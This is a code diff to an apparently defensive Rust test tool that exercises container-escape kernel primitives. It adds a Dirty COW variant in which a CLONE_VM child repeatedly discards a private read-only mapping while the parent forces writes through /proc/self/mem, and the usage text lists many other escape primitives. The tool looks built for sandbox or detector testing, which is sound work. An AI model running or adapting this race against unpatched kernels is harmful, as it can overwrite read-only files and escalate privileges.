@@ -3,7 +3,7 @@
 //! container's rootfs. Every primitive is the real syscall sequence, bounded in time, and
 //! harmless on this machine's patched kernel (Dirty COW / Dirty Pipe write private copies).
 //!
-//! Usage: primitives <dirtycow FILE | dirtycow-via int80 FILE | dirtycow-ptrace FILE | dirtypipe FILE |
+//! Usage: primitives <dirtycow FILE | dirtycow-via int80|clonevm FILE | dirtycow-ptrace FILE | dirtypipe FILE |
 //!        dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE | procmem | procmem-dup-pwritev |
 //!        procmem-inherited | benign-writes | pvwritev | ptrace PID |
 //!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module | setns32 NSFILE CMD | setns NSFILE CMD |
@@ -77,8 +77,11 @@ fn dirtycow(path: &str) {
 /// written bytes below 4 GiB.
 #[cfg(target_arch = "x86_64")]
 fn dirtycow_via(how: &str, path: &str) {
+    if how == "clonevm" {
+        return dirtycow_clone_vm(path);
+    }
     if how != "int80" {
-        fail("dirtycow-via: int80");
+        fail("dirtycow-via: int80 or clonevm");
     }
     const MADV_DONTNEED_LOCKED: i64 = 24;
     let (addr, len) = map_readonly_private_with(path, libc::MAP_32BIT);
@@ -99,6 +102,57 @@ fn dirtycow_via(how: &str, path: &str) {
             let _ = &mem;
         },
     );
+}
+
+/// Dirty COW with its discards made by a CLONE_VM child: another process (thread group) that
+/// shares this one's memory, as scumjr's dirtycow-vdso does, while this one forces writes
+/// through /proc/self/mem.
+fn dirtycow_clone_vm(path: &str) {
+    struct Discard {
+        addr: usize,
+        len: usize,
+    }
+    extern "C" fn discard(arg: *mut libc::c_void) -> libc::c_int {
+        // SAFETY: the parent's `Discard`, alive until this child is reaped.
+        let d = unsafe { &*arg.cast::<Discard>() };
+        for _ in 0..200 {
+            // SAFETY: plain syscalls on the shared mapping; no allocation, no locks (this child
+            // shares the parent's memory, thread-local storage included).
+            unsafe {
+                libc::madvise(d.addr as *mut libc::c_void, d.len, libc::MADV_DONTNEED);
+                libc::usleep(1000);
+            }
+        }
+        0
+    }
+    let (addr, len) = map_readonly_private(path);
+    let mem = open_self_mem();
+    let mut arg = Discard { addr, len };
+    let mut stack = vec![0u8; 64 * 1024];
+    // SAFETY: the child runs `discard` on its own stack (the top of `stack`, which outlives
+    // it: waited for below) and shares our memory.
+    let child = unsafe {
+        libc::clone(
+            discard,
+            stack.as_mut_ptr().add(stack.len()).cast(),
+            libc::CLONE_VM | libc::SIGCHLD,
+            (&mut arg as *mut Discard).cast(),
+        )
+    };
+    if child < 0 {
+        fail("clone(CLONE_VM)");
+    }
+    let start = Instant::now();
+    let mut writes = 0u64;
+    while start.elapsed() < Duration::from_millis(500) && writes < 200 {
+        let _ = mem.write_at(b"m00", addr as u64);
+        writes += 1;
+        thread::sleep(Duration::from_millis(1));
+    }
+    let mut status = 0;
+    // SAFETY: our child.
+    unsafe { libc::waitpid(child, &mut status, 0) };
+    println!("dirtycow-via clonevm: child {child} discarded, {writes} forced writes at {addr:#x}");
 }
 
 /// A page below 4 GiB, readable and writable, for the 32-bit entry's pointer arguments.
@@ -943,7 +997,7 @@ fn main() {
         ),
         _ => {
             eprintln!(
-                "usage: primitives <dirtycow FILE|dirtycow-via int80 FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns|ns-own PATH SECS>"
+                "usage: primitives <dirtycow FILE|dirtycow-via int80|clonevm FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns|ns-own PATH SECS>"
             );
             exit(2);
         }
